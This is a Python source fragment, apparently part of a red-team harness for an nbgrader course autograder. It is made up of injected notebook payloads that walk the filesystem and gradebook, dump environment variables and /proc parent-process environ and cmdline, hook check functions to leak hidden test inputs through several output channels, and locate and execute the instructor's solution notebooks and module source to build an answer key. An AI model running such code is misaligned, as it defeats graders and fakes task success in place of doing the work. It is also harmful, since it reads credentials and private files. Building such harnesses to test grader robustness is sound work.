        text = path.read_bytes()[:300_000].decode("utf-8", errors="replace")
        _rt_budget[0] -= len(text)
        print(f"==== {path}\n{text}")
    except Exception as error:
        print(f"==== {path}: {error}")


def _rt_walk(top, depth):
    try:
        entries = sorted(_rt_pathlib.Path(top).iterdir())
    except Exception as error:
        print(f"---- {top}: {error}")
        return
    print(f"---- {top}: {[entry.name for entry in entries]}")
    for entry in entries:
        if entry.is_dir() and not entry.is_symlink():
            if depth > 0 and entry.name not in (".git", ".venv", "proc", "sys"):
                _rt_walk(entry, depth - 1)
        else:
            _rt_show(entry)
'''

READ_FILES_CALLS = (
    PRELUDE + "_rt_walk('.', 3)\nfor _p in _rt_pathlib.Path.cwd().parents:\n    print(_p, _rt_try(_rt_os.listdir, _p))\n",
    PRELUDE + "_rt_walk(_RT_ROOT / 'solutions', 3)\n_rt_show(_RT_ROOT / 'nbgrader_config.py')\n",
    PRELUDE + "_rt_walk(_RT_ROOT / 'submitted', 3)\n",
    PRELUDE + "_rt_show(_RT_GRADEBOOK)\n_rt_walk(_RT_ROOT, 1)\n_rt_walk(_RT_ROOT.parent, 1)\n",
    PRELUDE + "_rt_walk(_rt_os.path.expanduser('~'), 1)\n_rt_walk(_RT_HOME, 1)\n_rt_walk('/tmp', 0)\n",
    PRELUDE + "_rt_show(_RT_REPO / 'solutions' / _RT_LESSON / f'{_RT_LESSON}.ipynb')\n",
    PRELUDE + "print(dict(_rt_os.environ))\nfor _w in ('cmdline', 'environ'):\n"
    "    _rt_show(f'/proc/{_rt_os.getppid()}/{_w}')\n",
)

LEAK_HIDDEN_INPUTS = PRELUDE + r'''
# Log every call a check makes on a case that is not public (a hidden one), and publish the log
# by every channel a kernel has: straight to file descriptors 1 and 2, a post-run hook, a thread,
# and an update of a display shown in an earlier cell.
import threading as _rt_threading
from IPython.display import display as _rt_display
_RT_PUBLIC = @PUBLIC@
_rt_log, _rt_shown = [], [0]
_rt_handle = _rt_display("(nothing logged yet)", display_id=True)


def _rt_logged(name, function):
    def wrapper(*args):
        caller = _rt_sys._getframe(1).f_code  # the checks run student code from these files
        if (caller.co_filename.endswith(_RT_RUNNERS)
                and repr(args) not in _RT_PUBLIC.get(name, ())):
            line = f"{_rt_mark('LEAK')} {name}{args!r}"
            _rt_log.append(line)
            _rt_try(_rt_os.write, 1, (line + "\n").encode())
            _rt_try(_rt_os.write, 2, (line + "\n").encode())
        return function(*args)
    wrapper.__name__ = name
    return wrapper


def _rt_publish(*_):
    if len(_rt_log) > _rt_shown[0]:
        text = "\n".join(_rt_log[_rt_shown[0]:])
        _rt_shown[0] = len(_rt_log)
        print(text)
        _rt_try(_rt_handle.update, "\n".join(_rt_log)[-100_000:])


def _rt_publisher():
    while True:
        _rt_time.sleep(0.05)
        _rt_try(_rt_publish)


get_ipython().events.register("post_run_cell", _rt_publish)
_rt_threading.Thread(target=_rt_publisher, daemon=True).start()
'''

# --- class 7: the answer key --------------------------------------------------------------------

READ_ANSWER_KEY = PRELUDE + r'''
# Find the course's own answers: the module's source (repository, installed package, git), or the
# instructor's solution notebooks; keep the first functions that really compute something.
import glob as _rt_glob, importlib as _rt_importlib, inspect as _rt_inspect, json as _rt_json, subprocess as _rt_sp
_RT_MODULE = @COURSE_MODULE@
_rt_file = _RT_MODULE.split(".")[-1] + ".py"
_rt_sources = []
_rt_sources.append(_rt_try(lambda: (_RT_REPO / "course_lib" / _rt_file).read_text()))
_rt_sources.append(_rt_try(lambda: _rt_inspect.getsource(_rt_importlib.import_module(_RT_MODULE))))
_rt_sources.append(_rt_try(lambda: _rt_sp.run(["git", "-C", str(_RT_REPO), "show", f"HEAD:course_lib/{_rt_file}"],
                                              capture_output=True, text=True, timeout=20).stdout))
for _rt_nb in (_RT_ROOT / "solutions" / _RT_LESSON / f"{_RT_LESSON}.ipynb",
               _RT_REPO / "solutions" / _RT_LESSON / f"{_RT_LESSON}.ipynb"):
    _rt_cells = (_rt_try(lambda p: _rt_json.loads(p.read_text()), _rt_nb) or {})
    if isinstance(_rt_cells, dict):
        _rt_sources.append("\n".join(
            "".join(c["source"]) if isinstance(c["source"], list) else c["source"]
            for c in _rt_cells.get("cells", []) if c.get("metadata", {}).get("nbgrader", {}).get("solution")))
_RT_KEY = {}
for _rt_source in _rt_sources:
    if not isinstance(_rt_source, str) or not _rt_source.strip():
        continue
    _rt_before = dict(globals())
    _rt_scope = dict(_rt_before, __name__="__main__")
    if _rt_try(exec, compile(_rt_source, "<answer key>", "exec"), _rt_scope) is None:
        for _rt_name, _rt_obj in _rt_scope.items():
            if (callable(_rt_obj) and _rt_before.get(_rt_name) is not _rt_obj
                    and not getattr(_rt_obj, "__course_answer_key__", False)):
                _RT_KEY.setdefault(_rt_name, _rt_obj)
print("answer key:", sorted(name for name in _RT_KEY if not name.startswith("_")))
'''
